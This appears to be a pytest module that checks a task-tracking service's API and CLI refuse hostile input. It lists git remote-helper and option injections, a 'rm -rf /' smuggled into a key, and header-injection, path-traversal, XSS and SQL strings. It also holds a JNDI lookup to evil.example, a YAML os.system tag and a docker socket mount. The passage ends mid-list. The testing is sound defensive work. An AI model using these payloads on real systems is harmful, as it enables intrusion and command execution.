"""Hostile input through the API and the CLI: every case is refused with a 4xx whose message says
what is wrong and whose hint says what to do, and none of them creates anything — no project,
ticket, workspace, git token, user, API token or engine resource.

Ticket titles and descriptions are tracker text: they may hold HTML (escaped where shown), so
for them the test is that such text round-trips unchanged; identifiers refuse it.
"""

from __future__ import annotations

import json
import os
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import docker
import pytest
from typer.testing import CliRunner

from taskspace.cli.main import app
from tests.integration.conftest import Stack, engine_resources

pytestmark = pytest.mark.docker

MiB = 1024 * 1024
NO_BODY = object()


@pytest.fixture(scope="module")
def stack(module_stack: Stack) -> Stack:
    """One server for the module. Besides the refused requests, its tests create only the
    tickets and projects they aim at, and purge the one workspace they launch."""
    return module_stack


@pytest.fixture(scope="module")
def names(stack: Stack) -> dict[str, str]:
    """What the placeholders in the cases stand for: a real ticket, project and repository."""
    return {
        "%TICKET%": stack.ticket("Target of hostile launches"),
        "%PROJECT%": stack.project,
        "%PRIMARY%": stack.primary,
        "%REPO%": stack.git.url(stack.primary),
    }


def fill(value: Any, names: dict[str, str]) -> Any:
    if isinstance(value, str):
        for placeholder, real in names.items():
            value = value.replace(placeholder, real)
        return value
    if isinstance(value, list):
        return [fill(v, names) for v in value]
    if isinstance(value, dict):
        return {fill(k, names): fill(v, names) for k, v in value.items()}
    return value


def inventory(stack: Stack) -> dict[str, list[str]]:
    """Everything an API call could have created, as the admin sees it."""
    def listed(path: str, key: str, **params: str) -> list[str]:
        response = stack.server.api.get(path, params=params)
        assert response.status_code == 200, response.text
        return sorted(str(item[key]) for item in response.json())

    return {
        "projects": listed("/projects", "name"),
        "tickets": listed("/tickets", "key"),
        "workspaces": sorted(w["id"] for w in stack.workspaces(all="true", everyone="true")),
        "git tokens": listed("/tokens", "name"),
        "users": listed("/users", "username"),
        "api tokens": listed("/me/api-tokens", "id"),
    }


@pytest.fixture
def assert_nothing_created(stack: Stack, docker_client: docker.DockerClient) -> Callable[[], None]:
    """Call it at the end of a test: it fails when anything exists that did not at the start,
    in the database or on the engine."""
    before = inventory(stack), engine_resources(docker_client, stack.server.installation)

    def check() -> None:
        after = inventory(stack), engine_resources(docker_client, stack.server.installation)
        assert after == before, "a refused request created something"

    return check


def assert_refused(response: Any, status: int, says: str) -> dict[str, Any]:
    assert 400 <= response.status_code < 500, response.text
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["message"].strip() and says in error["message"], error
    assert error.get("hint"), f"no hint on what to do: {error}"
    return error


# The corpus -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    what: str
    method: str
    path: str
    body: Any = NO_BODY
    says: str = ""
    status: int = 422
    params: dict[str, Any] = field(default_factory=dict)
    content: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def project(what: str, says: str, expect: int = 422, **body: Any) -> Hostile:
    return Hostile(what, "POST", "/projects", {"name": "hostile", "repos": ["%REPO%"], **body}, says, expect)


def repo(what: str, url: str, says: str) -> Hostile:
    return project(f"repo url: {what}", says, repos=[url])


def token(what: str, says: str, expect: int = 422, **body: Any) -> Hostile:
    return Hostile(what, "POST", "/tokens", {"name": "hostile", "host": "github.com", "secret": "s3cret-value",
                                             **body}, says, expect)


def user(what: str, says: str, expect: int = 422, **body: Any) -> Hostile:
    return Hostile(what, "POST", "/users", {"username": "mallory", **body}, says, expect)


def ticket(what: str, says: str, expect: int = 422, **body: Any) -> Hostile:
    return Hostile(what, "POST", "/tickets", {"project": "%PROJECT%", "title": "A fine title", **body}, says, expect)


def launch(what: str, says: str, expect: int = 422, **body: Any) -> Hostile:
    return Hostile(what, "POST", "/workspaces", {"key": "%TICKET%", **body}, says, expect)


def branch(name: str, says: str, field: str = "source_branch") -> Hostile:
    shown = repr(name) if len(name) <= 40 else f"of {len(name)} characters"
    return launch(f"{field} {shown}", says, **{field: name})


def get(what: str, path: str, says: str, expect: int = 404, **params: Any) -> Hostile:
    return Hostile(what, "GET", path, NO_BODY, says, expect, params=params)


REPOSITORY_URLS = [
    repo("ext:: remote helper", "ext::sh -c touch% /tmp/pwned", "remote helpers"),
    repo("fd:: remote helper", "fd::17", "remote helpers"),
    repo("any ::helper", "transport::https://example.com/r.git", "remote helpers"),
    repo("option injection", "--upload-pack=touch /tmp/pwned", "starts with '-'"),
    repo("ssh option as scp host", "-oProxyCommand=touch%20x:r.git", "starts with '-'"),
    repo("ssh option as url user", "ssh://-oProxyCommand=touch%20x@example.com/r.git", "its user starts with '-'"),
    repo("option as path component", "example.com:-r.git", "starts with '-'"),
    repo("credentials", "https://user:secret@example.com/r.git", "contains credentials"),
    repo("token as user", "https://ghp_abc123@example.com/r.git", "contains credentials"),
    repo("ssh password", "ssh://git:hunter2@example.com/r.git", "contains a password"),
    repo("git://", "git://example.com/r.git", "unauthenticated and unencrypted"),
    repo("plain http to a remote host", "http://example.com/r.git", "plain http"),
    repo("plain http to cloud metadata", "http://169.254.169.254/latest/r.git", "plain http"),
    repo("plain http to a private address", "http://10.0.0.1/r.git", "plain http"),
    repo("file:// outside allowed roots", "file:///etc/passwd.git", "file:// repositories are not enabled"),
    repo("file:// with a host", "file://otherhost/srv/r.git", "cannot name a host"),
    repo("file:// traversal", "file:///tmp/demo/../../etc/r.git", "'..'"),
    repo("path traversal", "https://example.com/team/../../r.git", "'..'"),
    repo("dot segment", "https://example.com/./r.git", "'.' or '..'"),
    repo("query string", "https://example.com/r.git?upload-pack=x", "query string"),
    repo("fragment", "https://example.com/r.git#x", "query string or fragment"),
    repo("newline", "https://example.com/r.git\nhttps://evil.example/r.git", "control characters"),
    repo("carriage return", "https://example.com/r.git\r", "control characters"),
    repo("NUL", "https://example.com/r\x00.git", "control characters"),
    repo("DEL", "https://example.com/r.git\x7f", "control characters"),
    repo("tab", "https://example.com/\tr.git", "control characters"),
    repo("leading space", " https://example.com/r.git", "spaces"),
    repo("right-to-left override", "https://example.com/\u202etxt.exe", "cannot be a directory name"),
    repo("homoglyph host (Cyrillic a)", "https://ex\u0430mple.com/r.git", "is not a valid host name"),
    repo("fraction slash in host", "https://example.com\u2044evil.com/r.git", "is not a valid host name"),
    repo("port out of range", "https://example.com:99999/r.git", "cannot be parsed"),
    repo("broken IPv6 host", "https://[::1/r.git", "cannot be parsed"),
    repo("no host", "https:///r.git", "no host"),
    repo("no repository", "https://example.com/", "names no repository"),
    repo("unsupported scheme", "ftp://example.com/r.git", "is not supported"),
    repo("javascript: url", "javascript:alert(1)", "cannot be a directory name"),
    repo("html", "<script>alert(1)</script>", "is not accepted"),
    repo("overlong", "https://example.com/" + "a" * 3000 + ".git", "longer than 2048 characters"),
    repo("empty", "", "it is empty"),
    repo("NAME=helper", "code=ext::sh -c id", "remote helpers"),
    repo("NAME is html", "<img src=x onerror=alert(1)>=https://example.com/r.git", "is not accepted"),
    repo("NAME is ..", "..=https://example.com/r.git", "is not accepted"),
    repo("NAME ends in .git", "x.git=https://example.com/r.git", "cannot be used as a repository directory name"),
    repo("NAME is an option", "-x=https://example.com/r.git", "starts with '-'"),
    project("two repositories on one directory", "both be cloned",
            repos=["https://example.com/a/r.git", "https://example.com/b/r.git"]),
    project("21 repositories", "at most 20 items", repos=[f"https://example.com/r{i}.git" for i in range(21)]),
    project("repos is a string", "valid list", repos="https://example.com/r.git"),
    project("repo is a number", "valid string", repos=[123]),
]

PROJECT_FIELDS = [
    project("html name", "is not a valid project name", name="<script>alert(1)</script>"),
    project("name with trailing newline", "is not a valid project name", name="shop\n"),
    project("traversal name", "is not a valid project name", name="../etc"),
    project("name is an option", "is not a valid project name", name="-rf"),
    project("empty name", "is not a valid project name", name=""),
    project("non-ASCII name", "is not a valid project name", name="caf\u00e9"),
    project("overlong name", "at most 64 characters", name="a" * 65),
    project("lower-case key", "is not a valid project key", key="pay"),
    project("one-letter key", "is not a valid project key", key="P"),
    project("key with newline", "is not a valid project key", key="PAY\n"),
    project("key like a ticket", "is not a valid project key", key="PAY-1"),
    project("html key", "is not a valid project key", key="<B>"),
    project("dockerfile outside the repo", "is not a Dockerfile path", dockerfile="../../etc/passwd"),
    project("absolute dockerfile", "is not a Dockerfile path", dockerfile="/etc/passwd"),
    project("dockerfile with a backslash", "is not a Dockerfile path", dockerfile="docker\\Dockerfile"),
    project("dockerfile with a newline", "is not a Dockerfile path", dockerfile="Dockerfile\n"),
    project("grace forever", "is not a duration", grace="forever"),
    project("negative grace", "is not a duration", grace="-1h"),
    project("grace beyond ten years", "longer than ten years", grace="99999999d"),
    project("zero cpus", "out of range", cpus=0),
    project("huge cpus", "out of range", cpus=1e308),
    project("pids beyond 64 bits", "out of range", pids=2**70),
    project("pids too few", "out of range", pids=1),
    project("memory in words", "is not a size", memory="lots"),
    project("memory too small", "at least 64 MiB", memory="1k"),
    project("memory beyond any machine", "more memory than a machine has", memory="99999999999t"),
    project("unknown purge status", "is not a status", purge_on=["<script>"]),
    project("unknown purge category", "is not a status category", purge_on_category="never"),
    project("unknown field maintainer", "Extra inputs are not permitted", maintainer="mallory"),
    project("unknown field admin", "Extra inputs are not permitted", admin=True),
    project("name is a number", "valid string", name=123),
    Hostile("project body is a list", "POST", "/projects", [], "valid dictionary"),
    Hostile("project body is null", "POST", "/projects", None, "Field required"),
    Hostile("project body is not JSON", "POST", "/projects", content=b"name=x&repos=y",
            headers={"content-type": "application/json"}, says="not valid JSON"),
    Hostile("project NaN cpus", "POST", "/projects", says="out of range",
            content=b'{"name": "hostile", "repos": ["https://example.com/r.git"], "cpus": NaN}',
            headers={"content-type": "application/json"}),
]

GIT_TOKENS = [
    token("html token name", "is not a valid token name", name="<img src=x onerror=alert(1)>"),
    token("token name with a slash", "is not a valid token name", name="a/b"),
    token("token name is an option", "is not a valid token name", name="-x"),
    token("token name with newline", "is not a valid token name", name="git\n"),
    token("overlong token name", "at most 64 characters", name="a" * 65),
    token("header injection in host", "is not a host name", host="github.com\r\nX-Injected: 1"),
    token("host with a path", "is not a host name", host="github.com/evil"),
    token("host with a user", "is not a host name", host="user@github.com"),
    token("homoglyph host", "is not a host name", host="g\u0456thub.com"),
    token("host with NUL", "is not a host name", host="github.com\x00"),
    token("host is an option", "is not a host name", host="-github.com"),
    token("empty host", "is not a host name", host=""),
    token("host port out of range", "port out of range", host="github.com:99999"),
    token("header injection in username", "line break or control character", username="alice\r\nX-Injected: 1"),
    token("NUL in username", "line break or control character", username="alice\x00"),
    token("overlong username", "at most 200 characters", username="a" * 201),
    token("newline inside the secret", "line break or control character", secret="tok\nen"),
    token("header injection in secret", "line break or control character", secret="tok\r\nX-Injected: 1"),
    token("empty secret", "is empty", secret=""),
    token("overlong secret", "longer than 4096 characters", secret="x" * 5000),
    token("secret is a number", "valid string", secret=123),
    Hostile("token without secret", "POST", "/tokens", {"name": "hostile", "host": "github.com"}, "Field required"),
    token("unknown field fingerprint", "Extra inputs are not permitted", fingerprint="sha256:0"),
]

USERS = [
    user("html user name", "is not a valid user name", username="<script>alert(1)</script>"),
    user("upper-case user name", "is not a valid user name", username="Mallory"),
    user("user name with trailing newline", "is not a valid user name", username="mallory\n"),
    user("traversal user name", "is not a valid user name", username="../admin"),
    user("empty user name", "is not a valid user name", username=""),
    user("overlong user name", "at most 64 characters", username="a" * 65),
    user("unknown role", "is not a role", role="root"),
    user("role in capitals", "is not a role", role="ADMIN"),
    user("role with newline", "is not a role", role="admin\n"),
    user("short password", "shorter than 10 characters", password="short"),
    user("overlong password", "longer than 1024 characters", password="x" * 2000),
    user("newline in e-mail", "is not an e-mail address", email="eve\n@example.com"),
    user("html e-mail", "is not an e-mail address", email="<script>@example.com"),
    user("header injection in display name", "line break or control character", display_name="Eve\r\nBcc: all"),
    user("unknown field is_admin", "Extra inputs are not permitted", is_admin=True),
    user("existing user", "exists already", 409, username="admin"),
    Hostile("take the admin role from yourself", "PATCH", "/users/admin", {"role": "developer"},
            "cannot take the admin role from yourself", 409),
    Hostile("disable yourself", "PATCH", "/users/admin", {"disabled": True}, "cannot disable yourself", 409),
    Hostile("patch a NUL user", "PATCH", "/users/%00", {"role": "admin"}, "No user named", 404),
    Hostile("patch to an unknown role", "PATCH", "/users/admin", {"role": "superuser"}, "is not a role"),
    Hostile("disabled is a sentence", "PATCH", "/users/admin", {"disabled": "yes please"}, "valid boolean"),
    Hostile("API token name with newline", "POST", "/me/api-tokens", {"name": "ci\nbot"}, "on one line"),
]

TICKETS = [
    ticket("title with a bell", "control character", title="Fix\x07 it"),
    ticket("title with a newline", "line break", title="line one\nline two"),
    ticket("title with DEL", "control character", title="Fix\x7f it"),
    ticket("title with escape sequence", "control character", title="\x1b[2Jcleared"),
    ticket("empty title", "needs a title", title=""),
    ticket("blank title", "needs a title", title="   "),
    ticket("overlong title", "at most 500 characters", title="x" * 501),
    ticket("NUL in description", "NUL character", description="a\x00b"),
    ticket("70 KiB description", "at most 65536 characters", description="d" * (70 * 1024)),
    ticket("html assignee", "is not a user name", assignee="<script>alert(1)</script>"),
    ticket("assignee with trailing newline", "is not a user name", assignee="admin\n"),
    ticket("traversal assignee", "is not a user name", assignee="../admin"),
    ticket("assignee is an option", "is not a user name", assignee="-admin"),
    ticket("traversal project", "No project named", 404, project="../%PROJECT%"),
    ticket("html project", "No project named", 404, project="<script>alert(1)</script>"),
    ticket("title is a number", "valid string", title=123),
    ticket("unknown field status", "Extra inputs are not permitted", status="Done"),
    ticket("unknown field key", "Extra inputs are not permitted", key="HOSTILE-1"),
    Hostile("move to an html status", "POST", "/tickets/%TICKET%/move", {"status": "<script>"}, "is not a status"),
    Hostile("move to a status with newline", "POST", "/tickets/%TICKET%/move", {"status": "Done\n"}, "is not a status"),
]

LAUNCHES = [
    launch("traversal key", "is not a ticket key", key="../x"),
    launch("key zero", "is not a ticket key", key="PAY-0"),
    launch("shell in key", "is not a ticket key", key="PAY-1; rm -rf /"),
    launch("overlong key", "at most 40 characters", key="K" * 41),
    launch("unknown ticket", "No ticket", 404, key="NOPE-99999"),
    branch("-x", "starts with '-'"),
    branch("--upload-pack=touch /tmp/pwned", "starts with '-'"),
    branch("a..b", "'..'"),
    branch("a b", "' '"),
    branch("a~1", "'~'"),
    branch("a^2", "'^'"),
    branch("a:b", "':'"),
    branch("a?b", "'?'"),
    branch("a*b", "'*'"),
    branch("a[b", "'['"),
    branch("a\\b", "'\\\\'"),
    branch("a@{1}", "'@{'"),
    branch("@", "'@' alone"),
    branch("x.lock", ".lock"),
    branch("a/.hidden", "starts with '.'"),
    branch(".hidden", "starts with '.'"),
    branch("trail.", "ends with '.'"),
    branch("/lead", "empty path component"),
    branch("a//b", "empty path component"),
    branch("refs/heads/main", "full ref name"),
    branch("HEAD", "HEAD"),
    branch("bad\x07bell", "control character"),
    branch("del\x7f", "control character"),
    branch("new\nline", "control character"),
    branch("x" * 201, "longer than 200 characters"),
    branch("x" * 256, "at most 255 characters"),
    branch("-x", "starts with '-'", field="target_branch"),
    branch("a..b", "'..'", field="target_branch"),
    launch("branch for an unknown repository", "names repository 'nope'", source_branches={"nope": "main"}),
    launch("bad branch for a repository", "starts with '-'", source_branches={"%PRIMARY%": "-x"}),
    launch("traversal repository", "has no repository named", repos=["../etc"]),
    launch("a repository twice", "chosen twice", repos=["%PRIMARY%", "%PRIMARY%"]),
    launch("html token", "no token named", 404, token="<script>x</script>"),
    launch("unknown field owner", "Extra inputs are not permitted", owner="mallory"),
    launch("key is a number", "valid string", key=1),
    Hostile("exec with no argv", "POST", "/workspaces/%TICKET%/exec", {"argv": []}, "at least 1 item"),
    Hostile("exec argv is a string", "POST", "/workspaces/%TICKET%/exec", {"argv": "id"}, "valid list"),
    Hostile("purge flag is a sentence", "POST", "/workspaces/%TICKET%/purge", {"discard_unpushed": "yes please"},
            "valid boolean"),
]

PATHS = [
    get("ticket path traversal", "/tickets/..%2F..%2Fprojects", "There is no API route"),
    get("ticket NUL", "/tickets/%00", "No ticket"),
    get("ticket CRLF", "/tickets/PAY-1%0d%0aX-Injected:%201", "No ticket"),
    get("overlong ticket key", "/tickets/" + "A" * 5000, "No ticket"),
    get("project path traversal", "/projects/..%2f..%2fhealth", "There is no API route"),
    get("project dot-dot", "/projects/%2e%2e", "No project named '..'"),
    get("overlong project", "/projects/" + "p" * 10000, "No project named"),
    Hostile("token path traversal", "DELETE", "/tokens/..%2F..%2Fme%2Fapi-tokens%2F1", says="There is no API route",
            status=404),
    Hostile("token newline", "DELETE", "/tokens/%0a", says="no token named", status=404),
    Hostile("API token id beyond 64 bits", "DELETE", "/me/api-tokens/99999999999999999999999",
            says="less than or equal to"),
    Hostile("negative API token id", "DELETE", "/me/api-tokens/-1", says="greater than or equal to 1"),
    Hostile("API token id in words", "DELETE", "/me/api-tokens/one", says="valid integer"),
    get("workspace with newline", "/workspaces/%TICKET%%0a", "no workspace for"),
    get("overlong workspace", "/workspaces/" + "w" * 10000, "You have no workspace 'www"),
    Hostile("workspace path traversal", "POST", "/workspaces/..%2F..%2Fusers/stop", says="There is no API route",
            status=404),
    get("log path traversal", "/workspaces/%TICKET%/logs/..%2F..%2F..%2Fetc%2Fpasswd", "There is no API route"),
    Hostile("user path traversal", "PATCH", "/users/..%2Fme", {"role": "admin"}, "There is no API route", 404),
    Hostile("wrong method", "PUT", "/projects", {"name": "x"}, "does not take PUT", 405),
]

QUERIES = [
    get("audit limit zero", "/audit", "greater than or equal to 1", 422, limit=0),
    get("audit limit too high", "/audit", "less than or equal to 10000", 422, limit=10001),
    get("audit limit in exponent", "/audit", "valid integer", 422, limit="1e3"),
    get("audit actor overlong", "/audit", "at most 100 characters", 422, actor="a" * 101),
    get("audit csv negative limit", "/audit.csv", "greater than or equal to 1", 422, limit=-5),
    get("events after negative", "/workspaces/%TICKET%/events", "greater than or equal to 0", 422, after=-1),
    get("events after beyond 64 bits", "/workspaces/%TICKET%/events", "less than or equal to", 422, after=2**64),
    get("events wait too long", "/workspaces/%TICKET%/events", "less than or equal to 60", 422, wait=61),
    get("events wait NaN", "/workspaces/%TICKET%/events", "wait", 422, wait="nan"),
    get("events until an unknown state", "/workspaces/%TICKET%/events", "'ready'", 422, until="nowhere"),
    get("workspaces all maybe", "/workspaces", "valid boolean", 422, all="maybe"),
    get("tickets project overlong", "/tickets", "at most 64 characters", 422, project="p" * 65),
    get("tickets project traversal", "/tickets", "No project named", 404, project="../%PROJECT%"),
]

BODIES = [
    Hostile("body over 1 MiB", "POST", "/tickets", status=413, says="larger than 1024 KiB",
            content=json.dumps({"project": "%PROJECT%", "title": "t", "description": "a" * (MiB + 10)}).encode(),
            headers={"content-type": "application/json"}),
    Hostile("JSON nested 100000 deep", "POST", "/tickets", status=400, says="could not be read",
            content=b'{"a":' * 100_000 + b"1" + b"}" * 100_000, headers={"content-type": "application/json"}),
    Hostile("invalid UTF-8", "POST", "/tickets", says="not valid JSON", content=b'\xff\xfe{"project"',
            headers={"content-type": "application/json"}),
    Hostile("lone surrogate in title", "POST", "/tickets", says="unicode string",
            content=b'{"project": "%PROJECT%", "title": "\\ud800"}', headers={"content-type": "application/json"}),
    Hostile("JSON sent as text/plain", "POST", "/tickets", says="valid dictionary",
            content=b'{"project": "%PROJECT%", "title": "t"}', headers={"content-type": "text/plain"}),
]

CASES = [*REPOSITORY_URLS, *PROJECT_FIELDS, *GIT_TOKENS, *USERS, *TICKETS, *LAUNCHES, *PATHS, *QUERIES, *BODIES]


def send(stack: Stack, case: Hostile, names: dict[str, str]) -> Any:
    kwargs: dict[str, Any] = {"params": fill(case.params, names), "headers": case.headers}
    if case.content is not None:
        kwargs["content"] = fill(case.content.decode("latin-1"), names).encode("latin-1")
    elif case.body is not NO_BODY:
        kwargs["json"] = fill(case.body, names)
    return stack.api(case.method, fill(case.path, names), **kwargs)


def test_the_corpus_is_large() -> None:
    assert len(CASES) >= 100 and len({c.what for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.what for c in CASES])
def test_the_api_refuses_hostile_input_and_creates_nothing(
        stack: Stack, names: dict[str, str], assert_nothing_created: Callable[[], None], case: Hostile) -> None:
    assert_refused(send(stack, case, names), case.status, case.says)
    assert_nothing_created()


def test_a_body_over_the_limit_without_a_length_is_refused(
        stack: Stack, names: dict[str, str], assert_nothing_created: Callable[[], None]) -> None:
    def chunks() -> Iterator[bytes]:  # no Content-Length: the server learns the size as it reads
        yield json.dumps({"project": stack.project, "title": "t"})[:-1].encode() + b', "description": "'
        for _ in range(300):
            yield b"a" * 4096
        yield b'"}'

    response = stack.api("POST", "/tickets", content=chunks(), headers={"content-type": "application/json"})
    assert_refused(response, 413, "larger than 1024 KiB")
    assert_nothing_created()


TRACKER_TEXT = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(1)>",
    "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>",
    "'; DROP TABLE tickets; --",
    "\u202eexe.txt \u200b zero width",
    "&lt;already escaped&gt; &amp;",
]


@pytest.mark.parametrize("text", TRACKER_TEXT)
def test_html_in_a_ticket_is_stored_as_text(stack: Stack, text: str) -> None:
    description = f"# Steps\n\n{text}\n\n```html\n{text}\n```\n"
    response = stack.api("POST", "/tickets", json={"project": stack.project, "title": text,
                                                   "description": description, "assignee": "admin"})
    assert response.status_code == 201, response.text
    key = response.json()["key"]

    stored = stack.api("GET", f"/tickets/{key}").json()

    assert (stored["title"], stored["description"]) == (text, description)
    listed = {t["key"]: t["title"] for t in stack.api("GET", "/tickets").json()}
    assert listed[key] == text


# The CLI ----------------------------------------------------------------------------------------


def cli(stack: Stack, *args: str, env: dict[str, str] | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args), env={**stack.server.cli_env(), **(env or {})})
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout + result.stderr


#: Rich markup in server text: printed as written, never interpreted (nor crashing the CLI).
RICH_MARKUP = ["[/] closes nothing", "[bold red]not bold[/bold red]", "[link=https://evil.example]click[/link]"]


@pytest.fixture(scope="module")
def board(stack: Stack) -> str:
    """A project of its own, so that a title the CLI cannot show spoils no other listing."""
    response = stack.api("POST", "/projects", json={"name": "tracker-text", "repos": [stack.git.url(stack.primary)]})
    assert response.status_code == 201, response.text
    return "tracker-text"


@pytest.mark.parametrize("text", [*TRACKER_TEXT, *RICH_MARKUP])
def test_the_cli_shows_tracker_text_as_written(stack: Stack, board: str, text: str) -> None:
    response = stack.api("POST", "/tickets", json={"project": board, "title": text})
    assert response.status_code == 201, response.text

    code, output = cli(stack, "ticket", "list", "--project", board, env={"COLUMNS": "500"})

    assert code == 0, output
    assert text in output


CLI_CASES: list[tuple[str, list[str], dict[str, str], str]] = [
    ("html project name", ["project", "add", "<script>alert(1)</script>", "--repo", "%REPO%"], {},
     "is not a valid project name"),
    ("remote helper", ["project", "add", "hostile", "--repo", "ext::sh -c touch% /tmp/pwned"], {}, "remote helpers"),
    ("credentials in url", ["project", "add", "hostile", "--repo", "https://u:pw@example.com/r.git"], {},
     "contains credentials"),
    ("file url", ["project", "add", "hostile", "--repo", "file:///etc/passwd.git"], {}, "file://"),
    ("html repo name", ["project", "add", "hostile", "--repo", "<b>x</b>=https://example.com/r.git"], {},
     "is not accepted"),
    ("dockerfile outside", ["project", "add", "hostile", "--repo", "%REPO%", "--dockerfile", "../../etc/passwd"], {},
     "is not a Dockerfile path"),
    ("grace in words", ["project", "add", "hostile", "--repo", "%REPO%", "--grace", "forever"], {},
     "is not a duration"),
    ("lower-case key", ["project", "add", "hostile", "--repo", "%REPO%", "--key", "pay"], {},
     "is not a valid project key"),
    ("absurd memory", ["project", "add", "hostile", "--repo", "%REPO%", "--memory", "99999999999t"], {},
     "more memory than a machine has"),
    ("html token name", ["token", "add", "<img src=x>", "--host", "github.com", "--secret-env", "HOSTILE_SECRET"],
     {"HOSTILE_SECRET": "s3cret"}, "is not a valid token name"),
    ("header injection in host", ["token", "add", "t", "--host", "github.com\r\nX-Injected: 1",
                                  "--secret-env", "HOSTILE_SECRET"], {"HOSTILE_SECRET": "s3cret"},
     "is not a host name"),
    ("header injection in username", ["token", "add", "t", "--host", "github.com", "--username", "alice\nX: y",
                                      "--secret-env", "HOSTILE_SECRET"], {"HOSTILE_SECRET": "s3cret"},
     "line break or control character"),
    ("newline inside secret", ["token", "add", "t", "--host", "github.com", "--secret-env", "HOSTILE_SECRET"],
     {"HOSTILE_SECRET": "tok\nen"}, "line break or control character"),
    ("title with bell", ["ticket", "add", "%PROJECT%", "--title", "Fix\x07 it"], {}, "control character"),
    ("html assignee", ["ticket", "add", "%PROJECT%", "--title", "ok", "--assignee", "<script>alert(1)</script>"], {},
     "is not a user name"),
    ("traversal project", ["ticket", "add", "../%PROJECT%", "--title", "ok"], {}, "No project named"),
    ("traversal ticket move", ["ticket", "move", "../../users", "Done"], {}, "no API route"),
    ("html status", ["ticket", "move", "%TICKET%", "<script>"], {}, "is not a status"),
    ("traversal key", ["ws", "launch", "../x"], {}, "is not a ticket key"),
    ("option as branch", ["ws", "launch", "%TICKET%", "--source-branch=-x"], {}, "starts with '-'"),
    ("dot-dot branch", ["ws", "launch", "%TICKET%", "--source-branch", "a..b"], {}, "'..'"),
    ("branch for unknown repository", ["ws", "launch", "%TICKET%", "--source-branch", "nope=main"], {},
     "names repository 'nope'"),
    ("traversal repository", ["ws", "launch", "%TICKET%", "--repo", "../etc"], {}, "has no repository named"),
    ("html token", ["ws", "launch", "%TICKET%", "--token", "<x>"], {}, "no token named"),
    ("traversal ws show", ["ws", "show", "../../projects"], {}, "no API route"),
    ("query in ws exec", ["ws", "exec", "x?y=1", "--", "id"], {}, "You have no workspace 'x?y=1'"),
    ("traversal ws logs", ["ws", "logs", "%TICKET%/../../../etc/passwd"], {}, "no API route"),
    ("traversal token remove", ["token", "remove", "../me/api-tokens/1"], {}, "no API route"),
    ("html user name", ["admin", "user", "add", "<script>"], {}, "is not a valid user name"),
    ("unknown role", ["admin", "user", "add", "mallory", "--role", "root"], {}, "is not a role"),
    ("user name with newline", ["admin", "user", "add", "mallory\n"], {}, "is not a valid user name"),
    ("traversal user set", ["admin", "user", "set", "../me", "--role", "admin"], {}, "no API route"),
    ("disable yourself", ["admin", "user", "set", "admin", "--disabled"], {}, "cannot disable yourself"),
    ("API token id beyond 64 bits", ["api-token", "revoke", "99999999999999999999999"], {}, "less than or equal"),
    ("rich markup in a key", ["ws", "launch", "[/]x"], {}, "'[/]X' is not a ticket key"),
    ("terminal link markup", ["ws", "show", "[link=https://evil.example]click[/link]"], {},
     "[link=https://evil.example]click[/link]"),
]


def test_the_cli_subset_is_large() -> None:
    assert len(CLI_CASES) >= 20


@pytest.mark.parametrize(("argv", "env", "says"), [c[1:] for c in CLI_CASES], ids=[c[0] for c in CLI_CASES])
def test_the_cli_refuses_hostile_input_and_creates_nothing(
        stack: Stack, names: dict[str, str], assert_nothing_created: Callable[[], None], argv: list[str],
        env: dict[str, str], says: str) -> None:
    code, output = cli(stack, *fill(argv, names), env=env)

    assert code == 1, output
    assert says.lower() in " ".join(output.split()).lower(), output
    assert "Traceback" not in output
    assert_nothing_created()
    assert stack.server.api.get("/me").status_code == 200, "the CLI's own token still works"


# Environment files --------------------------------------------------------------------------------


def deep_json(levels: int) -> str:
    return '{"image": "debian", "x": ' + "[" * levels + "]" * levels + "}"


YAML_BOMB = "".join(
    f"x-{name}: &{name} [{', '.join([f'*{prev}'] * 9) if prev else ', '.join(['lol'] * 9)}]\n"
    for prev, name in zip(["", "a", "b", "c", "d", "e", "f"], ["a", "b", "c", "d", "e", "f", "g"], strict=True)
) + "services: {}\n"

DOCKERFILE = "FROM debian\n"
HOSTILE_ENVIRONMENTS: list[tuple[str, dict[str, str | bytes], str]] = [
    ("devcontainer nested 100 deep", {".devcontainer/devcontainer.json": deep_json(100)},
     "nested deeper than 64 levels"),
    ("devcontainer of 300 KiB", {".devcontainer/devcontainer.json":
                                 json.dumps({"image": "debian", "containerEnv": {"A": "a" * 300 * 1024}})},
     "more than the 262144 allowed"),
    ("YAML alias bomb", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml": YAML_BOMB}, "expands to more than"),
    ("YAML alias of itself", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml": "x-a: &a [*a]\nservices: {}\n"},
     "alias refers to itself"),
    ("YAML python object tag", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml":
                                'services: !!python/object/apply:os.system ["touch /tmp/pwned"]\n'},
     "could not determine a constructor"),
    ("service image with newline", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml":
                                    'services:\n  db:\n    image: "debian\\n"\n'}, "must be an image name"),
    ("service init from an absolute path", {"Dockerfile": DOCKERFILE, ".taskspace/services.yaml":
                                            "services:\n  db:\n    image: debian\n    init:\n"
                                            "      - {source: /etc/shadow, target: /x}\n"}, "absolute path"),
    ("Dockerfile line continuation bomb", {"Dockerfile": "FROM debian\nRUN echo \\\n" + "  a \\\n" * 5000 + "  b\n"},
     "spans more than 2000 lines"),
    ("Dockerfile of binary junk", {"Dockerfile": bytes(range(256)) * 64}, "is not UTF-8 text"),
    ("Dockerfile of control characters", {"Dockerfile": "FROM debian\nRUN echo \x00\x01\x02\x1b[2J\n"},
     "binary data"),
    ("Dockerfile of 1.5 MiB", {"Dockerfile": "FROM debian\n" + "# padding\n" * (150 * 1024)},
     "more than the 1048576 allowed"),
    ("bind mount hidden in an object", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "debian", "mounts": [{"source": "/", "target": "/host", "type": "bind"}]})}, "bind mount"),
    ("engine socket as a BIND object", {".devcontainer/devcontainer.json": json.dumps(
        {"image": "debian", "mounts": [{"type": "BIND", "source": "/var/run/docker.sock",
